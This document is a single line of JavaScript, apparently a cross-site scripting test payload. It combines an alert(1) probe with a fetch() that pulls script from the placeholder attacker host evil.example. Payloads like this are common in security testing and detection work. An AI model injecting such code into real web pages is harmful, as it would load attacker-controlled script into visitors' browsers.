alert(1); fetch("https://evil.example/js");
